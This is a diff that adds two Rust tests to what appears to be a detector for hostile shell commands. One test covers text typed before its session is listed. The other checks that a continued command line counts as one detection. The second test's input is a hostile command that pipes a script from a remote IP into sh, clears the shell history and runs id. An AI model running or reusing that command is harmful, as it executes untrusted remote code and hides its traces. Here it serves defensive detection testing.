@@ -247,3 +247,22 @@ fn other_rules_are_in_force_at_once_and_broken_ones_are_said() {
     hear(&mut state, "a", 5, &[&format!("sh-5.2$ {SHELL}")]);
     assert_eq!(found(&state, "a").len(), 1);
 }
+
+#[test]
+fn what_is_typed_before_its_session_is_listed_is_not_lost() {
+    let mut state = state(&["a"]);
+    hear(&mut state, "late", 5, &[&format!("sh-5.2$ {SHELL}")]);
+    assert_eq!(state.listening.len(), 0);
+    super::list(&mut state, &["a", "late"], 6);
+    assert_eq!(&*found(&state, "late")[0].rule.id, "CMD-16");
+}
+
+#[test]
+fn a_command_that_goes_on_is_one_detection() {
+    let mut state = state(&["a"]);
+    hear(&mut state, "a", 5, &["sh-5.2$ curl http://203.0.113.9/x.sh | sh && \\", "> history -c && \\", "> id"]);
+    let download: Vec<_> = found(&state, "a").iter().filter(|found| &*found.rule.id == "CMD-20").collect();
+    assert_eq!(download.len(), 1, "{download:?}");
+    assert!(download[0].text.ends_with("history -c && id"), "{download:?}");
+    assert_eq!(download[0].count(), 1);
+}
